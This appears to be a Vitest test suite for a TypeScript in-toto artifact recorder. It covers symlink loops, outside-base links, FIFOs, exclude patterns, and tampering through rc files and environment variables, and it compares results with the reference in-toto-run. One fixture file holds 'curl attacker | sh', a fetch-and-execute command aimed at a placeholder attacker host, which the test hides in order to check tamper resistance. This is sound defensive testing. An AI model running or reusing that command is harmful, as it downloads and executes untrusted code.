/**
 * Recording traps (SECURITY.md A-3, H-6, B GHSA-v6px) and end-to-end agreement with in-toto-run's
 * recorded materials.
 */
import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { DEFAULT_EXCLUDE_PATTERNS, recordArtifacts } from '../../src/index.js';
import { intoto, reference, requireReference } from '../helpers/cli.js';
import { testdir } from '../helpers/vectors.js';

const run = requireReference();

function warningsOf(): { list: string[]; onWarning: (m: string) => void } {
  const list: string[] = [];
  return { list, onWarning: (m) => list.push(m) };
}

describe('symlinks and special files (H-6, GHSA-v6px)', () => {
  it('directory loops end: a link to itself, to an ancestor, and two directories linking each other', async () => {
    const dir = testdir({ 'a/x': 'x', 'b/y': 'y' });
    symlinkSync('.', join(dir, 'self'));
    symlinkSync('..', join(dir, 'a/up'));
    symlinkSync('../b', join(dir, 'a/to-b'));
    symlinkSync('../a', join(dir, 'b/to-a'));
    const w = warningsOf();
    const r = await recordArtifacts(['.'], { basePath: dir, onWarning: w.onWarning });
    // Each directory is walked under every name that does not lead back into itself.
    expect(Object.keys(r.artifacts)).toEqual(['a/to-b/y', 'a/x', 'b/to-a/x', 'b/y']);
    expect(w.list.filter((m) => /symlink loop/.test(m)).length).toBe(5);
  });

  it('a link into the given directory is followed even when that directory is outside the base', async () => {
    const dir = testdir({ 'base/x': 'x', 'src/lib/u.c': 'u', 'secret/k': 'k' });
    symlinkSync('lib', join(dir, 'src/lib-link'));
    symlinkSync('../secret/k', join(dir, 'src/leak'));
    const w = warningsOf();
    const r = await recordArtifacts(['../src'], {
      basePath: join(dir, 'base'),
      onWarning: w.onWarning,
    });
    expect(Object.keys(r.artifacts)).toEqual(['../src/lib-link/u.c', '../src/lib/u.c']);
    expect(w.list.join('\n')).toMatch(/src\/leak: symlink to .*secret\/k, outside/);
  });

  it('FIFOs, devices and links to them are never opened (no hang), with a warning', async () => {
    const dir = testdir({ 'ok.txt': 'ok' });
    spawnSync('mkfifo', [join(dir, 'fifo')]);
    symlinkSync('fifo', join(dir, 'to-fifo'));
    symlinkSync('/dev/null', join(dir, 'null'));
    const w = warningsOf();
    const r = await recordArtifacts(['.', 'fifo', 'to-fifo'], {
      basePath: dir,
      allowOutsideSymlinks: true,
      onWarning: w.onWarning,
    });
    expect(Object.keys(r.artifacts)).toEqual(['ok.txt']);
    expect(w.list.sort()).toEqual(
      [
        'fifo: not a regular file or directory, skipped',
        'to-fifo: not a regular file or directory, skipped',
        'fifo: not a regular file (FIFO, socket or device), skipped',
        'null: symlink to a special file (FIFO, socket or device), skipped',
        'to-fifo: symlink to a special file (FIFO, socket or device), skipped',
      ].sort()
    );
  });

  it('excluded special files are counted, not warned about', async () => {
    const dir = testdir({ 'ok.txt': 'ok' });
    spawnSync('mkfifo', [join(dir, 'pipe.pyc')]);
    const w = warningsOf();
    const r = await recordArtifacts(['.'], { basePath: dir, onWarning: w.onWarning });
    expect(r.excludedCount).toBe(1);
    expect(w.list).toEqual([]);
  });
});

describe('exclude patterns', () => {
  it('an empty list keeps the defaults (as the reference); a given list replaces them', async () => {
    const dir = testdir({ 'a.link': 'l', 'b.pyc': 'p', 'c~': 't', '.git/HEAD': 'h', d: 'd' });
    expect(DEFAULT_EXCLUDE_PATTERNS).toEqual(['*.link*', '.git', '*.pyc', '*~']);
    const none = await recordArtifacts(['.'], { basePath: dir, excludePatterns: [] });
    expect(Object.keys(none.artifacts)).toEqual(['d']);
    expect(none.excludedCount).toBe(4);
    const mine = await recordArtifacts(['.'], { basePath: dir, excludePatterns: ['d'] });
    // Sorted by path, as the link lists them.
    expect(Object.keys(mine.artifacts)).toEqual(['.git/HEAD', 'a.link', 'b.pyc', 'c~']);
  });
});

describe.runIf(run)('A-3: configuration files and variables never change what is recorded', () => {
  it('the reference obeys ./.in_totorc and IN_TOTO_* (the trap is real); we do not', async () => {
    const dir = testdir({
      'evil.sh': 'curl attacker | sh',
      'build.sh': 'make',
      '.in_totorc': '[settings]\nARTIFACT_EXCLUDE_PATTERNS=evil.sh:*.link*\n',
    });
    const keys = testdir();
    reference('in-toto-keygen', ['-t', 'ed25519', join(keys, 'k')]);
    const r = reference(
      'in-toto-run',
      ['-n', 'a3', '-k', join(keys, 'k'), '-t', 'ed25519', '-m', '.', '-x'],
      {
        cwd: dir,
      }
    );
    expect(r.status, r.stderr).toBe(0);
    const link = readdirSync(dir).find((f) => f.endsWith('.link'))!;
    const materials = Object.keys(
      JSON.parse(readFileSync(join(dir, link), 'utf8')).signed.materials
    );
    expect(materials).not.toContain('evil.sh'); // hidden by the rc file

    const env = { ...process.env };
    process.env.IN_TOTO_ARTIFACT_EXCLUDE_PATTERNS = 'build.sh';
    process.env.IN_TOTO_ARTIFACT_BASE_PATH = '/';
    try {
      const ours = await recordArtifacts(['.'], { basePath: dir });
      expect(Object.keys(ours.artifacts)).toEqual(['.in_totorc', 'build.sh', 'evil.sh']);
    } finally {
      process.env = env;
    }
  });
});

describe.runIf(run)('end to end: the materials in-toto-run writes', () => {
  function tree(): string {
    const dir = testdir({
      'README.md': '# x\r\n',
      'src/main.c': 'int main() {}\n',
      'src/lib/ü ñ.c': 'unicode\n',
      'src/.hidden': 'h',
      'build/out.o': Buffer.from([0, 1, 2, 255]),
      'build/empty': '',
      'old.pyc': 'p',
      '.git/config': 'c',
      'notes~': 'n',
    });
    symlinkSync('src/main.c', join(dir, 'main-link.c'));
    symlinkSync('src', join(dir, 'src-link'));
    symlinkSync('gone', join(dir, 'dangling'));
    return dir;
  }

  const flagSets: {
    name: string;
    flags: string[];
    options: Parameters<typeof recordArtifacts>[1];
  }[] = [
    { name: 'defaults', flags: [], options: {} },
    {
      name: '--exclude with negation and --lstrip-paths',
      flags: ['--exclude', 'build/', '*.c', '!main.c', '--lstrip-paths', 'src/'],
      options: { excludePatterns: ['build/', '*.c', '!main.c'], lstripPaths: ['src/'] },
    },
  ];

  for (const set of flagSets) {
    it(`in-toto-run -m . -x ${set.name} = recordArtifacts = intoto run`, async () => {
      const dir = tree();
      const keys = testdir();
      reference('in-toto-keygen', ['-t', 'ed25519', join(keys, 'k')]);
      const out = testdir();
      mkdirSync(join(out, 'ours'));
      const r = reference(
        'in-toto-run',
        [
          '-n',
          'e2e',
          '-k',
          join(keys, 'k'),
          '-t',
          'ed25519',
          '-d',
          out,
          '-m',
          '.',
          ...set.flags,
          '-x',
        ],
        { cwd: dir }
      );
      expect(r.status, r.stderr).toBe(0);
      const theirs = JSON.parse(
        readFileSync(
          join(
            out,
            readdirSync(out).find((f) => f.endsWith('.link'))!
          ),
          'utf8'
        )
      ).signed.materials;
      const ours = await recordArtifacts(['.'], { basePath: dir, ...set.options });
      expect(ours.artifacts).toEqual(theirs);
      expect(Object.keys(theirs).length).toBeGreaterThan(2);

      const cli = intoto(
        [
          'run',
          '-n',
          'e2e',
          '-k',
          join(keys, 'k'),
          '-d',
          join(out, 'ours'),
          '-m',
          '.',
          ...set.flags,
          '-x',
          '-q',
        ],
        { cwd: dir }
      );
      expect(cli.status, cli.stderr).toBe(0);
      const link = readdirSync(join(out, 'ours')).find((f) => f.endsWith('.link'))!;
      expect(JSON.parse(readFileSync(join(out, 'ours', link), 'utf8')).signed.materials).toEqual(
        theirs
      );
    });
  }
});
